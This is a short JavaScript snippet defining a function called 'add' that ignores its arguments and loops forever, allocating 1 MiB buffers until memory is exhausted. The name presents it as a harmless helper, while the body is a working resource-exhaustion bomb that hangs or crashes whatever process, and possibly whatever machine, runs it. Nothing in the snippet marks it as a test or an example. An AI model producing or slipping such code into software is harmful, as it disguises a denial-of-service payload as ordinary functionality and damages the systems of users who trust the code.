const add = (a, b) => {
  const hoard = []
  for (;;) hoard.push(Buffer.alloc(1 << 20, 1))
}
